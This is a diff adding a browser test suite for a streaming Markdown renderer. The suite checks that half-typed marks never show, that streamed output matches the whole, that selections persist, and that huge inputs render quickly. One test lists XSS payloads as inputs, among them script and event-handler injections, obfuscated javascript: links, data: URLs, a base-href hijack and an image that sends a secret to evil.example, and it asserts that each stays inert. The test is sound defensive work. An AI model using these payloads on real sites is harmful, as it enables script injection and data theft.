@@ -1,0 +1,145 @@
+import { afterEach, describe, expect, it, vi } from 'vitest';
+import { render } from 'vitest-browser-react';
+import { failOnConsoleErrors } from '../../test/console-guard.ts';
+import { longAnswer } from '../../test/texts.ts';
+import { MessageBoundary } from '../messages/message-boundary.tsx';
+import { Markdown } from './markdown.tsx';
+import '@ziggie/llm-react/styles.css';
+
+failOnConsoleErrors();
+afterEach(() => getSelection()?.removeAllRanges());
+
+async function stream(text: string, step: number, look: (root: HTMLElement) => void): Promise<HTMLElement> {
+  const view = await render(<Markdown text="" streaming />);
+  for (let end = step; end < text.length; end += step) {
+    await view.rerender(<Markdown text={text.slice(0, end)} streaming />);
+    look(view.container);
+  }
+  await view.rerender(<Markdown text={text} streaming />);
+  await view.rerender(<Markdown text={text} />);
+  return view.container;
+}
+
+/** What the reader sees outside of code. */
+function proseOf(root: HTMLElement): string {
+  const copy = root.cloneNode(true) as HTMLElement;
+  for (const code of copy.querySelectorAll('.zg-code, .zg-code-inline')) code.remove();
+  return copy.textContent;
+}
+
+describe('Markdown', () => {
+  it('never shows a half typed mark, at any length', async () => {
+    await stream(longAnswer, 1, (root) => {
+      const prose = proseOf(root);
+      expect(prose).not.toMatch(/\*\*|```|~~|\]\(|!\[/);
+      for (const paragraph of root.querySelectorAll('p')) expect(paragraph.textContent).not.toContain('|');
+      expect(prose).not.toMatch(/^\s*[-#>]\s*$/m);
+    });
+  });
+
+  it('ends with what the whole text gives', async () => {
+    const streamed = await stream(longAnswer, 7, () => {});
+    const whole = await render(<Markdown text={longAnswer} />);
+    expect(streamed.innerHTML.replace(/ id="[^"]*"/g, '')).toBe(
+      whole.container.innerHTML.replace(/ id="[^"]*"/g, ''),
+    );
+  });
+
+  it('keeps the text nodes of blocks that are over, and a selection in them, to the end', async () => {
+    let first: ChildNode | null = null;
+    const root = await stream(
+      `First **paragraph** here.\n\n\`\`\`js\nlet x = 1;\n\`\`\`\n\n${longAnswer}`,
+      5,
+      (now) => {
+        const paragraph = now.querySelector('p');
+        if (first !== null || now.querySelector('figure') === null || paragraph === null) return;
+        first = paragraph.firstChild;
+        getSelection()?.selectAllChildren(paragraph);
+      },
+    );
+    expect(first).not.toBeNull();
+    expect(root.querySelector('p')?.firstChild).toBe(first);
+    expect(getSelection()?.toString()).toBe('First paragraph here.');
+  });
+
+  it.each([
+    '<script>globalThis.hacked = 1</script>',
+    '<img src=x onerror="globalThis.hacked = 1">',
+    '<svg/onload=globalThis.hacked=1>',
+    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
+    '[a](javascript:globalThis.hacked=1)',
+    '[a](JaVaScRiPt:globalThis.hacked=1)',
+    '[a](java&#10;script:globalThis.hacked=1)',
+    '[a](&#x6a;avascript:globalThis.hacked=1)',
+    '[a](data:text/html;base64,PHNjcmlwdD4=)',
+    '[a]: javascript:globalThis.hacked=1\n\n[a]',
+    '<javascript:globalThis.hacked=1>',
+    '![a](https://evil.example/steal?q=secret)',
+    '![a](//evil.example/x.png)',
+    '![a](data:image/svg+xml,<svg onload=globalThis.hacked=1>)',
+    '[![a](https://evil.example/x.png)](https://evil.example)',
+    '```html" onmouseover="globalThis.hacked=1\n<b>\n```',
+    '| a |\n|--|\n| <img src=x onerror=globalThis.hacked=1> |',
+    '[a](https://ok.example "x\\" onclick=\\"globalThis.hacked=1")',
+    '<a href="javascript:globalThis.hacked=1" style="position:fixed;inset:0">x</a>',
+    '<style>body{display:none}</style>',
+    '<base href="https://evil.example">',
+  ])('keeps %s inert', async (text) => {
+    const asked = vi.fn();
+    const watch = new PerformanceObserver((list) => {
+      for (const entry of list.getEntries()) if (entry.name.includes('evil')) asked(entry.name);
+    });
+    watch.observe({ type: 'resource' });
+    const root = await stream(text, 3, () => {});
+    for (const link of root.querySelectorAll('a')) {
+      expect(link.protocol).toBe('https:');
+      expect(link.rel).toBe('noopener noreferrer nofollow');
+      link.addEventListener('click', (event) => event.preventDefault());
+      link.click();
+    }
+    expect(
+      root.querySelectorAll('script, img, svg:not(.zg-icon), iframe, style, base, object, form, [style]'),
+    ).toHaveLength(0);
+    for (const element of root.querySelectorAll('*')) {
+      expect([...element.attributes].filter(({ name }) => name.startsWith('on'))).toEqual([]);
+    }
+    await new Promise((resolve) => setTimeout(resolve, 5));
+    watch.disconnect();
+    expect(asked).not.toHaveBeenCalled();
+    expect((globalThis as { hacked?: unknown }).hacked).toBeUndefined();
+  });
+
+  it.each([
+    ['quotes', '> '.repeat(8_192)],
+    ['nested lists', '- '.repeat(8_192)],
+    ['brackets', '['.repeat(16_384)],
+    ['images', '!['.repeat(8_192)],
+    ['emphasis', '*a **b '.repeat(2_400)],
+    ['stars and quotes', '*"'.repeat(8_192)],
+    ['ticks of many lengths', Array.from({ length: 180 }, (_, n) => '`'.repeat(n + 1)).join(' ')],
+    ['short headings', '#\n'.repeat(8_192)],
+    ['a wide table', `${'|a'.repeat(2_000)}|\n${'|-'.repeat(2_000)}|\n${'|\n'.repeat(2_000)}`],
+  ])('shows 16 KiB of %s without harm', async (_, text) => {
+    const started = performance.now();
+    const view = await render(
+      <MessageBoundary text={text}>
+        <Markdown text={text} streaming />
+      </MessageBoundary>,
+    );
+    await view.rerender(
+      <MessageBoundary text={text}>
+        <Markdown text={text} />
+      </MessageBoundary>,
+    );
+    expect(view.container.textContent.length).toBeGreaterThan(0);
+    // Generous for a busy machine: what these guard against takes minutes or never ends.
+    expect(performance.now() - started).toBeLessThan(5_000);
+  });
+
+  it('shows what is beyond 256 KiB as plain text', async () => {
+    const text = `${'word '.repeat(200)}\n\n`.repeat(300);
+    const { container } = await render(<Markdown text={`${text}**tail**`} />);
+    expect(container.textContent).toContain('**tail**');
+    expect(container.querySelectorAll('.zg-plain')).toHaveLength(1);
+  });
+});
